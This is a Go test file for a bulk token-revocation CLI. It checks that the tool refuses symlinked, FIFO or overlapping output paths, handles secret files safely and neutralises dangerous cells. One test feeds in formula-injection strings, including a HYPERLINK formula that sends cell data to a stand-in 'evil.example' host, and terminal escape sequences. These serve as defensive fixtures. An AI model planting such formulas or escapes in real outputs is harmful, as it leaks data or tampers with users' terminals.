package cli

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/bulkrevoke/bulkrevoke/internal/concur/sim"
	"github.com/bulkrevoke/bulkrevoke/internal/journal"
	"github.com/bulkrevoke/bulkrevoke/internal/revoke"
)

// These tests cover issue 10's file guarantees through Main: outputs never
// through a link nor onto a special file, --resume only of outcome files,
// distinct paths, one run per outcome file, outputs probed before sending,
// spreadsheet- and terminal-safe cells, one YAML document, numeric bounds,
// and secret files. Each refusal is checked for its exit code, for zero
// requests, and for the files it must leave as they were (bytes and mode).

// fileState is a file's bytes and mode, or its absence.
type fileState struct {
	exists  bool
	mode    fs.FileMode
	content []byte
}

// stateOf reads path without following a final symbolic link (a link's
// state is its target's name).
func stateOf(t *testing.T, path string) fileState {
	t.Helper()
	fi, err := os.Lstat(path)
	if err != nil {
		return fileState{}
	}
	st := fileState{exists: true, mode: fi.Mode()}
	switch {
	case fi.Mode()&fs.ModeSymlink != 0:
		target, _ := os.Readlink(path)
		st.content = []byte(target)
	case fi.Mode().IsRegular():
		st.content, _ = os.ReadFile(path)
	}
	return st
}

func (s fileState) String() string {
	return fmt.Sprintf("exists=%v mode=%v content=%q", s.exists, s.mode, s.content)
}

func (s fileState) equal(o fileState) bool {
	return s.exists == o.exists && s.mode == o.mode && bytes.Equal(s.content, o.content)
}

// unchanged checks that every path is as it was.
func unchanged(t *testing.T, before map[string]fileState) {
	t.Helper()
	for path, st := range before {
		if now := stateOf(t, path); !now.equal(st) {
			t.Errorf("%s changed:\n was %v\n now %v", path, st, now)
		}
	}
}

func snapshot(t *testing.T, paths ...string) map[string]fileState {
	t.Helper()
	m := map[string]fileState{}
	for _, p := range paths {
		m[p] = stateOf(t, p)
	}
	return m
}

// refused runs a command line expected to be refused before anything is
// sent, and checks the exit code, the message and the server's silence.
func refused(t *testing.T, srv *server, env map[string]string, want string, args ...string) result {
	t.Helper()
	if env == nil {
		env = map[string]string{EnvAdminToken: testAdminToken}
	}
	all := append([]string{"run", "--base-url", srv.url, "--log-format", "json"}, args...)
	before := srv.hits.Load()
	res := runMain(t, t.Context(), env, "", all...)
	if res.code != ExitUsage {
		t.Errorf("exit %d, want %d:\n%s", res.code, ExitUsage, res.stderr)
	}
	if !strings.Contains(res.stderr, want) {
		t.Errorf("stderr does not say %q:\n%s", want, res.stderr)
	}
	if n := srv.hits.Load() - before; n != 0 {
		t.Errorf("%d requests sent by a refused run", n)
	}
	return res
}

// TestOutputsNeverThroughALink: every output path (the outcome file with and
// without --force and --resume, its sidecar and lock file, the summary, the
// metrics file) that is a symbolic link, to a file or to /dev/null, dangling,
// or a FIFO, is refused with exit 2; the link, its target and /dev/null are
// as they were, and no dangling link's target is created.
func TestOutputsNeverThroughALink(t *testing.T) {
	t.Parallel()
	srv := newServer(t, sim.Config{}, nil)
	srv.AddToken("tok-link-1")
	type output struct {
		name string
		// args returns the flags that make out (in dir) the output named.
		args func(dir, out string) []string
		// path is the path that is made a link, given the --out path.
		path func(out string) string
	}
	same := func(out string) string { return out }
	outputs := []output{
		{"--out", func(dir, out string) []string { return []string{"--out", out} }, same},
		{"--out --force", func(dir, out string) []string { return []string{"--force", "--out", out} }, same},
		{"--out --resume", func(dir, out string) []string { return []string{"--resume", "--out", out} }, same},
		{"--out --dry-run --force", func(dir, out string) []string { return []string{"--dry-run", "--force", "--out", out} }, same},
		{"sidecar", func(dir, out string) []string { return []string{"--force", "--out", out} }, journal.MetaPath},
		{"lock file", func(dir, out string) []string { return []string{"--force", "--out", out} }, journal.LockPath},
		{"--summary", func(dir, out string) []string {
			return []string{"--summary", filepath.Join(dir, "link.csv"), "--out", filepath.Join(dir, "real-out.csv")}
		}, same},
		{"--metrics-file", func(dir, out string) []string {
			return []string{"--metrics-file", filepath.Join(dir, "link.csv"), "--out", filepath.Join(dir, "real-out.csv")}
		}, same},
	}
	devNull := func() fileState {
		fi, err := os.Stat("/dev/null")
		if err != nil {
			t.Skip("no /dev/null")
		}
		return fileState{exists: true, mode: fi.Mode()}
	}
	for _, o := range outputs {
		for _, kind := range []string{"link to a file", "link to /dev/null", "dangling link", "FIFO"} {
			t.Run(o.name+"/"+kind, func(t *testing.T) {
				t.Parallel()
				dir := t.TempDir()
				in := writeFile(t, dir, "in.csv", "token\ntok-link-1\n")
				out := filepath.Join(dir, "link.csv")
				path := o.path(out)
				victim := writeFile(t, dir, "victim.csv", "line,kind,target,consumer_key,status,http_status,attempts,error,correlation_id,duration_ms,settled_at,run_id\nprecious\n")
				if err := os.Chmod(victim, 0o644); err != nil {
					t.Fatal(err)
				}
				nowhere := filepath.Join(dir, "nowhere.csv")
				var err error
				switch kind {
				case "link to a file":
					err = os.Symlink(victim, path)
				case "link to /dev/null":
					err = os.Symlink("/dev/null", path)
				case "dangling link":
					err = os.Symlink(nowhere, path)
				case "FIFO":
					err = syscall.Mkfifo(path, 0o600)
				}
				if err != nil {
					t.Skipf("%s: %v", kind, err)
				}
				before := snapshot(t, victim, path, in, nowhere)
				nullBefore := devNull()
				refused(t, srv, nil, "", append(o.args(dir, out), in)...)
				unchanged(t, before)
				if now := devNull(); now.mode != nullBefore.mode {
					t.Errorf("/dev/null's mode changed from %v to %v", nullBefore.mode, now.mode)
				}
				for _, p := range []string{filepath.Join(dir, "real-out.csv"), out} {
					if p == path {
						continue
					}
					if st := stateOf(t, p); st.exists {
						t.Errorf("refused run left %s", p)
					}
				}
			})
		}
	}
}

// TestResumeOnlyOutcomeFiles: --resume continues only a file that is an
// outcome file; anything else is refused with exit 2, nothing sent, and left
// byte for byte (and mode) as it was. All shipped job files set resume: true,
// so the job-file route is covered too.
func TestResumeOnlyOutcomeFiles(t *testing.T) {
	t.Parallel()
	srv := newServer(t, sim.Config{}, nil)
	srv.AddToken("tok-notes-1")
	cases := []struct {
		name, file, content string
	}{
		{"notes without a newline", "notes.csv", "remember the milk"},
		{"notes with newlines", "notes.csv", "a,b\nc,d\n"},
		{"an input file", "leavers.csv", "token,user,consumerKey\ntok-notes-1,,\n"},
		{"empty csv", "empty.csv", ""},
		{"the header, torn", "torn.csv", "line,kind,targ"},
		{"jsonl notes without a newline", "notes.jsonl", "remember the milk"},
		{"jsonl of other records", "other.jsonl", `{"token":"tok-notes-1"}` + "\n"},
		{"jsonl input", "in.ndjson", `{"token":"tok-notes-1"}`},
	}
	for _, tc := range cases {
		for _, viaJob := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s/job=%v", tc.name, viaJob), func(t *testing.T) {
				t.Parallel()
				dir := t.TempDir()
				in := writeFile(t, dir, "in.csv", "token\ntok-notes-1\n")
				out := writeFile(t, dir, tc.file, tc.content)
				if err := os.Chmod(out, 0o640); err != nil {
					t.Fatal(err)
				}
				before := snapshot(t, out, in, journal.MetaPath(out))
				args := []string{"--resume", "--out", out, in}
				if viaJob {
					job := writeFile(t, dir, "job.yaml", fmt.Sprintf("resume: true\nout: %s\ninput: %s\n", out, in))
					args = []string{"--job", job}
				}
				refused(t, srv, nil, "not an outcome file", args...)
				unchanged(t, before)
			})
		}
	}
}

// TestOutputsAreDistinct: no two paths the run writes are one file, and none
// is a file it reads (the input, the job file, a secret file), by name or by
// device and inode (hard and symbolic links). Refused before anything is
// read, written or sent; the files are as they were, and a secret file's
// path is never shown.
func TestOutputsAreDistinct(t *testing.T) {
	t.Parallel()
	srv := newServer(t, sim.Config{}, nil)
	srv.AddToken("tok-dist-1")
	type setup struct {
		dir, in, out, token string
	}
	cases := []struct {
		name string
		args func(s setup) []string
		want string
	}{
		{"summary is the input", func(s setup) []string { return []string{"--out", s.out, "--summary", s.in} }, "--summary and INPUT"},
		{"metrics file is the input", func(s setup) []string { return []string{"--out", s.out, "--metrics-file", s.in} }, "--metrics-file and INPUT"},
		{"metrics file is the outcome file", func(s setup) []string { return []string{"--out", s.out, "--metrics-file", s.out} }, "--out and --metrics-file"},
		{"summary is the metrics file", func(s setup) []string {
			p := filepath.Join(s.dir, "run.json")
			return []string{"--out", s.out, "--summary", p, "--metrics-file", p}
		}, "--summary and --metrics-file"},
		{"summary is the sidecar", func(s setup) []string { return []string{"--out", s.out, "--summary", journal.MetaPath(s.out)} }, "sidecar and --summary"},
		{"metrics file is the lock file", func(s setup) []string { return []string{"--out", s.out, "--metrics-file", journal.LockPath(s.out)} }, "lock file and --metrics-file"},
		{"summary by another spelling of the input", func(s setup) []string {
			return []string{"--out", s.out, "--summary", filepath.Join(s.dir, "sub", "..", "in.csv")}
		}, "--summary and INPUT"},
		{"summary is a hard link to the input", func(s setup) []string {
			link := filepath.Join(s.dir, "summary.json")
			if err := os.Link(s.in, link); err != nil {
				t.Fatal(err)
			}
			return []string{"--out", s.out, "--summary", link}
		}, "--summary and INPUT"},
		{"outcome file is a hard link to the input", func(s setup) []string {
			link := filepath.Join(s.dir, "hard.csv")
			if err := os.Link(s.in, link); err != nil {
				t.Fatal(err)
			}
			return []string{"--force", "--out", link}
		}, "--out and INPUT"},
		{"summary is the admin token file", func(s setup) []string {
			return []string{"--out", s.out, "--admin-token-file", s.token, "--summary", s.token}
		}, "--summary and --admin-token-file"},
		{"summary is the outcome file through a linked directory", func(s setup) []string {
			link := filepath.Join(s.dir, "linked")
			if err := os.Symlink(s.dir, link); err != nil {
				t.Fatal(err)
			}
			return []string{"--out", s.out, "--summary", filepath.Join(link, "out.csv")}
		}, "--out and --summary"},
		{"metrics file is the sidecar through a linked directory", func(s setup) []string {
			link := filepath.Join(s.dir, "linked")
			if err := os.Symlink(s.dir, link); err != nil {
				t.Fatal(err)
			}
			return []string{"--out", s.out, "--metrics-file", journal.MetaPath(filepath.Join(link, "out.csv"))}
		}, "sidecar and --metrics-file"},
		{"summary is the lock file through a linked directory", func(s setup) []string {
			link := filepath.Join(s.dir, "linked")
			if err := os.Symlink(s.dir, link); err != nil {
				t.Fatal(err)
			}
			return []string{"--out", s.out, "--summary", journal.LockPath(filepath.Join(link, "out.csv"))}
		}, "lock file and --summary"},
		{"outcome file is the job file", func(s setup) []string {
			job := writeFile(t, s.dir, "job.csv", "rate: 5\n")
			return []string{"--job", job, "--force", "--out", job}
		}, "--out and --job"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			if err := os.Mkdir(filepath.Join(dir, "sub"), 0o700); err != nil {
				t.Fatal(err)
			}
			s := setup{
				dir:   dir,
				in:    writeFile(t, dir, "in.csv", "token\ntok-dist-1\n"),
				out:   filepath.Join(dir, "out.csv"),
				token: writeFile(t, dir, "secret-"+testAdminToken, testAdminToken+"\n"),
			}
			args := tc.args(s)
			before := snapshot(t, s.in, s.out, s.token, journal.MetaPath(s.out), journal.LockPath(s.out))
			res := refused(t, srv, nil, tc.want, append(args, s.in)...)
			unchanged(t, before)
			if strings.Contains(res.stderr, testAdminToken) {
				t.Errorf("stderr shows the secret file's name, which may be the secret:\n%s", res.stderr)
			}
		})
	}
}

// gate holds every request until opened, and says when the first arrives.
type gate struct {
	first    chan struct{}
	open     chan struct{}
	arrivals atomic.Int64
}

func newGate() *gate { return &gate{first: make(chan struct{}), open: make(chan struct{})} }

func (g *gate) wait(r *http.Request) {
	if g.arrivals.Add(1) == 1 {
		close(g.first)
	}
	select {
	case <-g.open:
	case <-r.Context().Done():
	}
}

// TestOneRunPerOutcomeFile runs two real runs on one outcome file at once:
// the first is held mid-run by its server; the second, however it is started
// (plain, --resume, --force, --dry-run), exits 2 at once saying another run
// holds the file, sends nothing to its own server, and leaves the outcome
// file, the sidecar and the shared summary alone. The first then finishes
// exactly, and a run after it may continue the file.
func TestOneRunPerOutcomeFile(t *testing.T) {
	t.Parallel()
	g := newGate()
	first := newServer(t, sim.Config{}, func(_ int64, w http.ResponseWriter, r *http.Request) bool {
		g.wait(r)
		return false
	})
	second := newServer(t, sim.Config{}, nil)
	dir := t.TempDir()
	rows := liveRows(first.Server, "lock", 6, 2)
	for _, r := range rows {
		if tok, ok := strings.CutPrefix(r.key, "token:"); ok {
			second.AddToken(tok)
		}
	}
	in := writeRows(t, dir, "in.csv", rows)
	out := filepath.Join(dir, "out.csv")
	summary := filepath.Join(dir, "summary.json")
	metrics := filepath.Join(dir, "run.prom")

	done := make(chan result, 1)
	go func() {
		done <- runMain(t, context.Background(), map[string]string{EnvAdminToken: testAdminToken}, "",
			"run", "--base-url", first.url, "--log-format", "json", "--rate", "0", "--concurrency", "2",
			"--resume", "--summary", summary, "--metrics-file", metrics, "--out", out, in.path)
	}()
	select {
	case <-g.first:
	case res := <-done:
		t.Fatalf("first run ended before its first request: exit %d:\n%s", res.code, res.stderr)
	}
	held := snapshot(t, out, journal.MetaPath(out), summary)
	for _, extra := range [][]string{nil, {"--resume"}, {"--force"}, {"--dry-run", "--force"}} {
		args := append(append([]string{"--rate", "0", "--summary", summary, "--metrics-file", metrics}, extra...), "--out", out, in.path)
		res := refused(t, second, nil, "another run holds", args...)
		if !strings.Contains(res.stderr, journal.LockPath(out)) {
			t.Errorf("refusal does not name the lock file:\n%s", res.stderr)
		}
		unchanged(t, held)
	}
	if n := second.hits.Load(); n != 0 {
		t.Errorf("the second runs sent %d requests", n)
	}
	close(g.open)
	res := <-done
	if res.code != ExitOK {
		t.Fatalf("first run exit %d:\n%s", res.code, res.stderr)
	}
	checkExact(t, first, in, out, 0)
	if s := readSummary(t, summary); s["exit_code"] != float64(ExitOK) {
		t.Errorf("summary after the first run: %v", s)
	}
	// Released: the next run continues the file and has nothing to send.
	again, _ := runJob(t, second, testAdminToken, "--rate", "0", "--resume", "--out", out, in.path)
	if again.code != ExitOK || second.hits.Load() != 0 {
		t.Errorf("resume after the first run: exit %d, %d requests:\n%s", again.code, second.hits.Load(), again.stderr)
	}
}

// TestOutputsProbedBeforeSending: a summary or metrics path that cannot be
// written is refused with exit 2 before the first request, and leaves no
// outcome file behind.
func TestOutputsProbedBeforeSending(t *testing.T) {
	t.Parallel()
	srv := newServer(t, sim.Config{}, nil)
	srv.AddToken("tok-probe-1")
	cases := []struct {
		name string
		path func(t *testing.T, dir string) string
		want string
	}{
		{"summary is a directory", func(t *testing.T, dir string) string {
			p := filepath.Join(dir, "summary.json")
			os.Mkdir(p, 0o700)
			return p
		}, "directory"},
		{"summary under a regular file", func(t *testing.T, dir string) string {
			return filepath.Join(writeFile(t, dir, "file", "x"), "summary.json")
		}, "does not exist"},
		{"summary in a read-only directory", func(t *testing.T, dir string) string {
			if os.Geteuid() == 0 {
				t.Skip("root writes into read-only directories")
			}
			ro := filepath.Join(dir, "ro")
			os.Mkdir(ro, 0o500)
			return filepath.Join(ro, "summary.json")
		}, "cannot create"},
	}
	for _, tc := range cases {
		for _, flag := range []string{"--summary", "--metrics-file"} {
			t.Run(tc.name+"/"+flag, func(t *testing.T) {
				t.Parallel()
				dir := t.TempDir()
				in := writeFile(t, dir, "in.csv", "token\ntok-probe-1\n")
				out := filepath.Join(dir, "out.csv")
				path := tc.path(t, dir)
				refused(t, srv, nil, flag, flag, path, "--out", out, in)
				if st := stateOf(t, out); st.exists {
					t.Error("a refused run left an outcome file")
				}
			})
		}
	}
}

// TestOutputsReplaceOnlyTheirOwn: a --summary or --metrics-file path that
// holds a file this job did not write (yesterday's outcome file, notes) is
// refused with exit 2 and left byte for byte; one that holds a summary or
// metrics file of an earlier run is replaced, as a nightly job needs.
func TestOutputsReplaceOnlyTheirOwn(t *testing.T) {
	t.Parallel()
	for i, flag := range []string{"--summary", "--metrics-file"} {
		t.Run(flag, func(t *testing.T) {
			t.Parallel()
			// A server of its own: refused counts the requests it gets.
			srv := newServer(t, sim.Config{}, nil)
			srv.AddToken("tok-own-" + strconv.Itoa(2*i))
			srv.AddToken("tok-own-" + strconv.Itoa(2*i+1))
			dir := t.TempDir()
			in := writeFile(t, dir, "in.csv", "token\ntok-own-"+strconv.Itoa(2*i)+"\n")
			for _, foreign := range []string{"line,kind,target\n2,token,sha256:0\n", "notes\n", "{\"not\": \"ours\"}\n"} {
				path := writeFile(t, dir, "foreign", foreign)
				res := refused(t, srv, nil, "not one this job wrote", flag, path, "--out", filepath.Join(dir, "out.csv"), in)
				if b, err := os.ReadFile(path); err != nil || string(b) != foreign {
					t.Errorf("%s: the foreign file changed to %q (%v)", flag, b, err)
				}
				if strings.Contains(res.stderr, "sha256:0") {
					t.Errorf("the refusal shows the file's content: %s", res.stderr)
				}
			}
			// An earlier run's own file is replaced.
			own := filepath.Join(dir, "own")
			out := filepath.Join(dir, "out-own.csv")
			if res := runMain(t, t.Context(), map[string]string{EnvAdminToken: testAdminToken}, "", "run", "--base-url", srv.url, "--log-format", "json", flag, own, "--out", out, in); res.code != ExitOK {
				t.Fatalf("first run: exit %d: %s", res.code, res.stderr)
			}
			in2 := writeFile(t, dir, "in2.csv", "token\ntok-own-"+strconv.Itoa(2*i+1)+"\n")
			if res := runMain(t, t.Context(), map[string]string{EnvAdminToken: testAdminToken}, "", "run", "--base-url", srv.url, "--log-format", "json", flag, own, "--out", filepath.Join(dir, "out-own2.csv"), in2); res.code != ExitOK {
				t.Fatalf("second run over the first's %s: exit %d: %s", flag, res.code, res.stderr)
			}
		})
	}
}

// TestSummaryExitCodeIsTheProcesss: when the metrics file cannot be written
// at the end (its path became a directory during the run), the process
// exits 3, and the summary says 3 too, not the 0 the rows alone would give.
func TestSummaryExitCodeIsTheProcesss(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	metrics := filepath.Join(dir, "run.prom")
	var once atomic.Bool
	srv := newServer(t, sim.Config{}, func(_ int64, w http.ResponseWriter, r *http.Request) bool {
		if once.CompareAndSwap(false, true) {
			// The run wrote the metrics file at its start; make the final
			// write fail.
			os.Remove(metrics)
			os.Mkdir(metrics, 0o700)
		}
		return false
	})
	in := writeRows(t, dir, "in.csv", liveRows(srv.Server, "exit", 3, 0))
	summary := filepath.Join(dir, "summary.json")
	res := runMain(t, t.Context(), map[string]string{EnvAdminToken: testAdminToken}, "",
		"run", "--base-url", srv.url, "--log-format", "json", "--rate", "0",
		"--summary", summary, "--metrics-file", metrics, "--out", filepath.Join(dir, "out.csv"), in.path)
	if res.code != ExitStopped {
		t.Fatalf("exit %d, want %d:\n%s", res.code, ExitStopped, res.stderr)
	}
	s := readSummary(t, summary)
	if s["exit_code"] != float64(res.code) {
		t.Errorf("summary says exit_code %v, the process exited %d", s["exit_code"], res.code)
	}
	if e, _ := s["error"].(string); !strings.Contains(e, "metrics") {
		t.Errorf("summary error %q does not say the metrics file failed", e)
	}
}

// TestOutcomeCellsAreSafe: user IDs and consumer keys that a spreadsheet
// would run as formulas, and invalid rows holding terminal controls, are
// written neutralised and escaped in CSV and as plain JSON in JSONL; read
// back they are the values given, and a resume sends nothing again.
func TestOutcomeCellsAreSafe(t *testing.T) {
	t.Parallel()
	users := []struct{ user, ck string }{
		{`=HYPERLINK("evil.example?"&A1,"click")`, "app"}, // no "/": checkExact splits user/key on it
		{"+SUM(1+1)", "app"},
		{"-2+3", "app"},
		{"@SUM(A1)", "app"},
		{"'quoted", "'app"},
		{`back\slash`, "-ck"},
		{"plain@example.com", "=ck"},
	}
	controls := []string{"\x1b]0;pwned\x07", "nul\x00byte", "\x1b[2Jclear", "del\x7f"}
	for _, ext := range []string{".csv", ".jsonl"} {
		t.Run(ext, func(t *testing.T) {
			t.Parallel()
			srv, seen := countingServer(t, sim.Config{}, nil)
			var rows []inputRow
			for _, u := range users {
				srv.AddUserTokens(u.user, u.ck, 1)
				rows = append(rows, userRow(csvQuote(u.user), csvQuote(u.ck)))
			}
			for _, c := range controls {
				rows = append(rows, invalidRow(","+csvQuote(c)+",app"))
			}
			dir := t.TempDir()
			in := writeRows(t, dir, "in.csv", rows)
			for line, r := range in.rows { // the keys the server sees are unquoted
				if r.key != "" {
					u := users[line-2]
					r.key = "user:" + u.user + "/" + u.ck
					in.rows[line] = r
				}
			}
			out := filepath.Join(dir, "out"+ext)
			res, _ := runJob(t, srv, testAdminToken, "--rate", "0", "--out", out, in.path)
			if res.code != ExitInvalid { // the invalid rows; every user row is live
				t.Fatalf("exit %d, want %d (invalid rows):\n%s", res.code, ExitInvalid, res.stderr)
			}
			raw, err := os.ReadFile(out)
			if err != nil {
				t.Fatal(err)
			}
			for i, c := range raw {
				if (c < 0x20 && c != '\n') || c == 0x7f {
					t.Fatalf("raw control byte %#x at %d:\n%q", c, i, raw)
				}
			}
			if ext == ".csv" {
				records, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
				if err != nil {
					t.Fatal(err)
				}
				for _, rec := range records[1:] {
					for _, cell := range rec {
						if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
							t.Errorf("cell %q would run in a spreadsheet", cell)
						}
					}
				}
			} else {
				for l := range bytes.Lines(raw) {
					var v map[string]any
					if err := json.Unmarshal(l, &v); err != nil {
						t.Errorf("not plain JSON: %v: %s", err, l)
					}
				}
			}
			got := readOutcomes(t, out)
			for i, u := range users {
				o := got[int64(i+2)]
				if o.Target != u.user || o.ConsumerKey != u.ck || o.Status != revoke.Revoked {
					t.Errorf("line %d read back as %q/%q %s, want %q/%q revoked", i+2, o.Target, o.ConsumerKey, o.Status, u.user, u.ck)
				}
			}
			for i, c := range controls {
				o := got[int64(len(users)+i+2)]
				if o.Status != revoke.Invalid || o.Target != c {
					t.Errorf("invalid line %d read back as %q %s, want %q", len(users)+i+2, o.Target, o.Status, c)
				}
			}
			sent := seen.snapshot()
			again, _ := runJob(t, srv, testAdminToken, "--rate", "0", "--resume", "--out", out, in.path)
			if again.code != ExitInvalid { // the same invalid rows, nothing failed
				t.Errorf("resume exit %d:\n%s", again.code, again.stderr)
			}
			for k, n := range seen.snapshot() {
				if n != sent[k] {
					t.Errorf("resume sent %s again", k)
				}
			}
			checkExact(t, srv, in, out, 0)
		})
	}
}

// csvQuote quotes a CSV field.
func csvQuote(s string) string {
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	w.Write([]string{s})
	w.Flush()
	return strings.TrimSuffix(b.String(), "\n")
}

// TestJobFileIsOneDocument: settings after a second "---" are refused,
// naming the line, not silently dropped; an empty trailing document is
// harmless and accepted.
func TestJobFileIsOneDocument(t *testing.T) {
	t.Parallel()
	srv := newServer(t, sim.Config{}, nil)
	srv.AddToken("tok-yaml-1")
	cases := []struct {
		name, job string
		want      string // "" means accepted
	}{
		{"dry-run in a second document", "rate: 0\n---\ndry-run: true\n", "line 2"},
		{"second document after an empty first", "---\n---\ndry-run: true\n", "line 2"},
		{"a value as a second document", "rate: 0\n---\n~\n", "line 2"},
		{"third document", "rate: 0\n---\n---\ndry-run: true\n", "line 3"},
		{"empty trailing document", "dry-run: true\n---\n", ""},
		{"trailing document of comments", "dry-run: true\n---\n# dry-run: false\n", ""},
		{"document end marker", "dry-run: true\n...\n", ""},
		{"leading ---", "---\ndry-run: true\n", ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			in := writeFile(t, dir, "in.csv", "token\ntok-yaml-1\n")
			job := writeFile(t, dir, "job.yaml", tc.job)
			out := filepath.Join(dir, "out.csv")
			if tc.want != "" {
				res := refused(t, srv, nil, "job file", "--job", job, "--out", out, in)
				if !strings.Contains(res.stderr, tc.want) || !strings.Contains(res.stderr, "one document") {
					t.Errorf("refusal does not name %s:\n%s", tc.want, res.stderr)
				}
				if stateOf(t, out).exists {
					t.Error("a refused run left an outcome file")
				}
				return
			}
			res := runMain(t, t.Context(), nil, "", "run", "--base-url", srv.url, "--job", job, "--out", out, in)
			if res.code != ExitOK || srv.hits.Load() != 0 {
				t.Errorf("exit %d (dry run from the first document), %d requests:\n%s", res.code, srv.hits.Load(), res.stderr)
			}
		})
	}
	t.Run("job file is a FIFO", func(t *testing.T) {
		t.Parallel()
		dir := t.TempDir()
		job := filepath.Join(dir, "job.yaml")
		if err := syscall.Mkfifo(job, 0o600); err != nil {
			t.Skip(err)
		}
		within(t, func() {
			refused(t, srv, nil, "regular file", "--job", job, "--out", filepath.Join(dir, "o.csv"), "in.csv")
		})
	})
}

// within fails the test, rather than hanging it, when fn blocks: the bound
// is an upper limit on a hang, not a speed measurement.
func within(t *testing.T, fn func()) {
	t.Helper()
	done := make(chan struct{})
	go func() { defer close(done); fn() }()
	select {
	case <-done:
	case <-time.After(time.Minute):
		t.Fatal("blocked")
	}
}

// TestNumericBounds: settings outside their range are refused with exit 2
// and a message giving the range; values on the bounds run.
func TestNumericBounds(t *testing.T) {
	t.Parallel()
	srv := newServer(t, sim.Config{}, nil)
	srv.AddToken("tok-bound-1")
	dir := t.TempDir()
	in := writeFile(t, dir, "in.csv", "token\ntok-bound-1\n")
	bad := []struct {
		args []string
		want string
	}{
		{[]string{"--rate", "5", "--burst", "6"}, "--burst 6: want 1 to 5"},
		{[]string{"--rate", "5", "--burst", "1000000"}, "want 1 to 5"},
		{[]string{"--rate", "2.5", "--burst", "3"}, "want 1 to 2"},
		{[]string{"--rate", "0", "--burst", "2"}, "want 1 to 1"},
		{[]string{"--rate", "1e-300"}, "at least 0.01"},
		{[]string{"--rate", "0.009"}, "at least 0.01"},
		{[]string{"--progress-interval", "1ns"}, "--progress-interval 1ns: want"},
		{[]string{"--progress-interval", "25h"}, "to 24h"},
		{[]string{"--timeout", "999ms"}, "--timeout 999ms: want 1s to 10m0s"},
		{[]string{"--timeout", "0s"}, "want 1s to 10m0s"},
		{[]string{"--timeout", "10m1s"}, "want 1s to 10m0s"},
	}
	for _, tc := range bad {
		t.Run(strings.Join(tc.args, " "), func(t *testing.T) {
			out := filepath.Join(t.TempDir(), "out.csv")
			refused(t, srv, nil, tc.want, append(tc.args, "--out", out, in)...)
		})
	}
	good := [][]string{
		{"--rate", "5", "--burst", "5"},
		{"--rate", "0.01"},
		{"--rate", "0"},
		{"--timeout", "1s"},
		{"--timeout", "10m"},
		{"--progress-interval", "24h"},
	}
	for _, args := range good {
		out := filepath.Join(t.TempDir(), "out.csv")
		res := runMain(t, t.Context(), nil, "", append(append([]string{"run", "--dry-run", "--base-url", srv.url}, args...), "--out", out, in)...)
		if res.code != ExitOK {
			t.Errorf("%v: exit %d:\n%s", args, res.code, res.stderr)
		}
	}
	// The production floor of --progress-interval, which TestMain lowers.
	for d, ok := range map[time.Duration]bool{999 * time.Millisecond: false, time.Second: true} {
		cfg := Config{Rate: 1, Burst: 1, MaxAttempts: 1, Timeout: time.Second, ProgressInterval: d}
		if err := cfg.checkBoundsWith(MinProgressInterval); (err == nil) != ok || (err != nil && !strings.Contains(err.Error(), "want 1s to 24h")) {
			t.Errorf("--progress-interval %v: %v", d, err)
		}
	}
	if n := srv.hits.Load(); n != 0 {
		t.Errorf("%d requests sent", n)
	}
}

// TestSecretFiles: a secret file is read from a regular file, 64 KiB at
// most; /dev/zero, a FIFO with no writer, a directory and a larger file are
// refused at once with exit 2, and no message shows the flag's value (it may
// be the secret, pasted).
func TestSecretFiles(t *testing.T) {
	t.Parallel()
	srv := newServer(t, sim.Config{}, nil)
	srv.AddToken("tok-secret-1")
	dir := t.TempDir()
	in := writeFile(t, dir, "in.csv", "token\ntok-secret-1\n")
	fifo := filepath.Join(dir, "fifo")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	big := writeFile(t, dir, "big", strings.Repeat("a", 64<<10+1))
	pasted := "eyJhbGciOiJSUzI1NiJ9.pasted-secret-value-0123456789"
	cases := []struct {
		name, path, want string
	}{
		{"/dev/zero", "/dev/zero", "regular file"},
		{"FIFO without a writer", fifo, "regular file"},
		{"directory", dir, "regular file"},
		{"over 64 KiB", big, "64 KiB"},
		{"the secret pasted as the path", pasted, "cannot open the file (no such file)"},
		{"empty", writeFile(t, dir, "empty", "\n"), "empty"},
	}
	providers := []struct {
		flag string
		args []string
	}{
		{"--admin-token-file", nil},
		{"--client-secret-file", []string{"--provider", "rfc7009", "--revoke-url", srv.url + "/revoke", "--client-id", "client-1"}},
	}
	for _, p := range providers {
		for _, tc := range cases {
			t.Run(p.flag+"/"+tc.name, func(t *testing.T) {
				t.Parallel()
				out := filepath.Join(t.TempDir(), "out.csv")
				all := []string{"run", "--log-format", "json"}
				if p.args == nil {
					all = append(all, "--base-url", srv.url)
				}
				all = append(append(all, p.args...), p.flag, tc.path, "--out", out, in)
				var res result
				within(t, func() { res = runMain(t, t.Context(), nil, "", all...) })
				if res.code != ExitUsage || !strings.Contains(res.stderr, p.flag) || !strings.Contains(res.stderr, tc.want) {
					t.Errorf("exit %d, want %d saying %s and %q:\n%s", res.code, ExitUsage, p.flag, tc.want, res.stderr)
				}
				if strings.Contains(res.stderr, tc.path) {
					t.Errorf("the message shows the flag's value:\n%s", res.stderr)
				}
				if n := srv.hits.Load(); n != 0 {
					t.Errorf("%d requests sent", n)
				}
			})
		}
	}
}
